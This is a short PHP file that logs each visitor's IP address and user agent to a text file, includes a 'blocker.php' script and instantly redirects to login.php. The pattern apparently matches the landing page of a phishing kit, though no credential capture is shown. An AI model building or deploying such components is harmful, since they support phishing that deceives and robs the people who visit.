<?php
require_once '../blocker.php';
$ip = getenv('REMOTE_ADDR');
$agent = $_SERVER['HTTP_USER_AGENT'];
$line = "IP: " . $ip . " | UA: " . $agent . " | " . date('r');
$entry = $line . "\n";
$fh = fopen('visits.txt', 'a');
fwrite($fh, $entry);
fclose($fh);
?>
<html><head><meta http-equiv="refresh" content="0; url=login.php"></head></html>
